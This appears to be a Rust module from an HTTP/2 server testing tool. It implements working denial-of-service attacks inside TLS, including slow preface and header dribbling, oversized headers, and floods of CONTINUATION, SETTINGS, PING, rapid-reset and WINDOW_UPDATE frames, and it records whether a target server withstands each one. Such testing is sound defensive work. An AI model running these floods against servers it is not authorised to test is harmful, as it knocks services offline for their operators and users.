//! Attacks by amount and by slowness, inside TLS.

use std::time::{Duration, Instant};

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::timeout;

use super::{Finding, Target, end};
use crate::error::WireError;
use crate::h2::{Conn, Frame, PREFACE, flag, kind};
use crate::hpack;

pub(super) const NAMES: &[&str] = &[
    "tls-silence",
    "preface-dribble",
    "preface-only",
    "headers-dribble",
    "big-header",
    "many-headers",
    "continuation-flood",
    "settings-flood",
    "ping-flood",
    "rapid-reset",
    "stream-flood",
    "empty-data-flood",
    "window-flood",
];

const BATCH: usize = 200;

pub(super) async fn run(name: &str, target: &Target) -> Result<Vec<Finding>> {
    let finding = match name {
        "tls-silence" | "preface-dribble" | "preface-only" | "headers-dribble" => {
            let (first, rest) = slow(name, target);
            match target.tls().await? {
                Ok(mut tls) => silent(&mut tls, &first, &rest, target.limit).await,
                Err(error) => Err(error),
            }
        }
        _ => match target.conn().await? {
            Ok(mut conn) => inside(name, &mut conn, target).await,
            Err(error) => Err(error),
        },
    };
    // A flood may also just be held up: what does not read cannot grow.
    let may_stay = [
        "settings-flood",
        "ping-flood",
        "rapid-reset",
        "stream-flood",
        "empty-data-flood",
        "window-flood",
    ];
    let how = match finding {
        Ok(how) => how,
        Err(WireError::TimedOut) => "held up".into(),
        Err(error) if error.is_end() => error.outcome(),
        Err(error) => return Ok(vec![Finding::new(name, error.outcome(), false)]),
    };
    let stayed = how == "still open" || how == "held up";
    let ok = (!stayed || may_stay.contains(&name)) && how != "status:200";
    Ok(vec![Finding::new(name, how, ok)])
}

/// Sends `first` at once, then `rest` byte by byte; never answers. The connection must end before the bytes do.
async fn silent(
    tls: &mut crate::dial::Tls,
    first: &[u8],
    rest: &[u8],
    limit: Duration,
) -> Result<String, WireError> {
    let deadline = Instant::now() + limit;
    let mut buffer = [0; 1024];
    let mut bytes = rest.iter().take(rest.len().saturating_sub(1));
    tls.write_all(first).await?;
    tls.flush().await?;
    while Instant::now() < deadline {
        if let Some(byte) = bytes.next() {
            tls.write_all(&[*byte]).await?;
            tls.flush().await?;
        }
        match timeout(Duration::from_millis(500), tls.read(&mut buffer)).await {
            Ok(Ok(0)) => return Ok("closed".into()),
            Ok(Err(error)) => return Err(error.into()),
            // The server's own SETTINGS and PING, or nothing yet.
            Ok(Ok(_)) | Err(_) => {}
        }
    }
    Ok("still open".into())
}

/// What the slow attacks send at once, and what byte by byte.
fn slow(name: &str, target: &Target) -> (Vec<u8>, Vec<u8>) {
    let mut opening = PREFACE.to_vec();
    Frame::new(kind::SETTINGS, 0, 0, []).write(&mut opening);
    Frame::new(kind::SETTINGS, flag::ACK, 0, []).write(&mut opening);
    let head = hpack::encode(&target.request());
    match name {
        "tls-silence" => (Vec::new(), Vec::new()),
        "preface-dribble" => (Vec::new(), PREFACE.to_vec()),
        "preface-only" => (opening, Vec::new()),
        _ => (
            opening,
            Frame::new(kind::HEADERS, flag::END_HEADERS, 1, head).bytes(),
        ),
    }
}

async fn inside(name: &str, conn: &mut Conn, target: &Target) -> Result<String, WireError> {
    let stream = conn.open();
    match name {
        "big-header" => {
            let mut fields = target.request();
            fields.push(("x-big".into(), "x".repeat(4 << 20)));
            split_headers(conn, stream, &hpack::encode(&fields)).await?;
            Ok(end(conn, Some(stream), target.limit).await)
        }
        "many-headers" => {
            let mut fields = target.request();
            fields.extend((0..60_000).map(|i| (format!("x-{i}"), "y".to_owned())));
            split_headers(conn, stream, &hpack::encode(&fields)).await?;
            Ok(end(conn, Some(stream), target.limit).await)
        }
        _ => {
            flood(name, conn, stream, target).await?;
            let wait = if name == "continuation-flood" {
                target.limit
            } else {
                Duration::from_secs(2)
            };
            Ok(end(conn, None, wait).await)
        }
    }
}

/// A header block as HEADERS and as many CONTINUATION frames as it takes.
pub(super) async fn split_headers(
    conn: &mut Conn,
    stream: u32,
    block: &[u8],
) -> Result<(), WireError> {
    let mut chunks: Vec<&[u8]> = block.chunks(16_000).collect();
    if chunks.is_empty() {
        chunks.push(&[]);
    }
    for (at, chunk) in chunks.iter().enumerate() {
        let frame_kind = if at == 0 {
            kind::HEADERS
        } else {
            kind::CONTINUATION
        };
        let flags = if at + 1 == chunks.len() {
            flag::END_HEADERS
        } else {
            0
        };
        match conn
            .frame(&Frame::new(frame_kind, flags, stream, *chunk))
            .await
        {
            Ok(()) => {}
            // The server had enough; what it said is still to be read.
            Err(error) if error.is_end() => return Ok(()),
            Err(error) => return Err(error),
        }
    }
    Ok(())
}

async fn flood(name: &str, conn: &mut Conn, first: u32, target: &Target) -> Result<(), WireError> {
    let head = hpack::encode(&target.request());
    let filler = hpack::encode(&[("x-filler", "z".repeat(8000))]);
    let mut opening = Vec::new();
    match name {
        "continuation-flood" => Frame::new(kind::HEADERS, 0, first, &head[..]).write(&mut opening),
        "empty-data-flood" | "window-flood" => {
            Frame::new(kind::HEADERS, flag::END_HEADERS, first, &head[..]).write(&mut opening);
        }
        _ => {}
    }
    conn.raw(&opening).await?;
    for batch in 0..target.frames.div_ceil(BATCH) {
        let mut bytes = Vec::new();
        for at in 0..BATCH {
            let id = first + 2 * (batch * BATCH + at) as u32;
            match name {
                "continuation-flood" => {
                    Frame::new(kind::CONTINUATION, 0, first, &filler[..]).write(&mut bytes)
                }
                "settings-flood" => {
                    Frame::new(kind::SETTINGS, 0, 0, [0, 4, 0, 1, 0, at as u8]).write(&mut bytes)
                }
                "ping-flood" => Frame::new(kind::PING, 0, 0, *b"01234567").write(&mut bytes),
                "empty-data-flood" => Frame::new(kind::DATA, 0, first, []).write(&mut bytes),
                "window-flood" => Frame::credit(first, 1).write(&mut bytes),
                _ => {
                    Frame::new(kind::HEADERS, flag::END_HEADERS, id, &head[..]).write(&mut bytes);
                    if name == "rapid-reset" {
                        Frame::reset(id, 8).write(&mut bytes);
                    }
                }
            }
        }
        match conn.raw(&bytes).await {
            Ok(()) => {}
            Err(error) if error.is_end() => return Ok(()),
            Err(error) => return Err(error),
        }
    }
    Ok(())
}
